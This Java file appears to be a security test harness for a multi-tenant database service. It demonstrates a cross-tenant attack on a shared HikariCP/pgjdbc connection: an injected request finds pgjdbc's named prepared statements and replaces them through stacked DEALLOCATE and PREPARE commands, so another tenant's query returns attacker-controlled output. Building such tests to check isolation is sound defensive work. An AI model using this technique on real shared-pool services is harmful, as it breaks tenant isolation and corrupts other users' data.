import com.zaxxer.hikari.HikariConfig;
import com.zaxxer.hikari.HikariDataSource;
import java.io.FileInputStream;
import java.io.InputStream;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.Properties;

/**
 * A replaced prepared statement on a Java service's pooled connection: honest requests of tenant A run a query
 * often enough for pgjdbc to prepare it as a named statement (S_1, ...), an injected request of tenant A finds the
 * names and replaces them with its own statements, then tenant B's honest request runs on the same connection.
 * Prints what B's query answered (or the error it got) as JSON: {"answer": ...}.
 *
 * Arguments: the pool's properties file (HikariCP's names, as TenantLoad), the context of tenant A, that of B.
 */
public final class ReplacedStatement {
  private static final String QUERY = "SELECT accessweaver.current_tenant_id()::text || ' ' || ?";
  /** Named statements with one parameter on this session: the ones the service binds its values to. */
  private static final String FIND = "SELECT name FROM pg_prepared_statements WHERE cardinality(parameter_types) = 1";

  private interface Work {
    String run(Connection connection) throws SQLException;
  }

  private static String request(HikariDataSource pool, String context, Work work) throws SQLException {
    try (Connection connection = pool.getConnection()) {
      if (connection.getAutoCommit()) connection.setAutoCommit(false);
      try (PreparedStatement apply = connection.prepareStatement("SELECT accessweaver.set_tenant_context(?)")) {
        apply.setString(1, context);
        apply.executeQuery().close();
      }
      String result = work.run(connection);
      connection.commit();
      return result;
    }
  }

  private static String honest(Connection connection) throws SQLException {
    try (PreparedStatement query = connection.prepareStatement(QUERY)) {
      query.setString(1, "honest");
      try (ResultSet rs = query.executeQuery()) {
        rs.next();
        return rs.getString(1);
      }
    }
  }

  private static String quote(String value) {
    return "\"" + value.replace("\\", "\\\\").replace("\"", "\\\"").replaceAll("\\p{Cntrl}", " ") + "\"";
  }

  public static void main(String[] args) throws Exception {
    Properties settings = new Properties();
    try (InputStream in = new FileInputStream(args[0])) {
      settings.load(in);
    }
    settings.setProperty("maximumPoolSize", "1");
    String answer;
    try (HikariDataSource pool = new HikariDataSource(new HikariConfig(settings))) {
      for (int i = 0; i < 6; i++) request(pool, args[1], ReplacedStatement::honest);
      try {
        request(pool, args[1], connection -> {
          // One by one: pgjdbc notices DEALLOCATE ALL and forgets its statements, but not a DEALLOCATE of one name.
          StringBuilder injected = new StringBuilder("SELECT 1");
          try (Statement find = connection.createStatement(); ResultSet names = find.executeQuery(FIND)) {
            while (names.next()) {
              String name = "\"" + names.getString(1) + "\"";
              injected.append("; DEALLOCATE ").append(name)
                  .append("; PREPARE ").append(name).append(" (text) AS SELECT 'attacker ' || $1");
            }
          }
          try (Statement replace = connection.createStatement()) {
            replace.execute(injected.toString());
          }
          return null;
        });
      } catch (SQLException refused) {
        // No such statement to replace: the attacker's request fails, the next one is what matters.
      }
      try {
        answer = request(pool, args[2], ReplacedStatement::honest);
      } catch (SQLException error) {
        answer = "error " + error.getSQLState() + " " + error.getMessage().split("\n")[0];
      }
    }
    System.out.println("{\"answer\":" + quote(answer) + "}");
  }
}
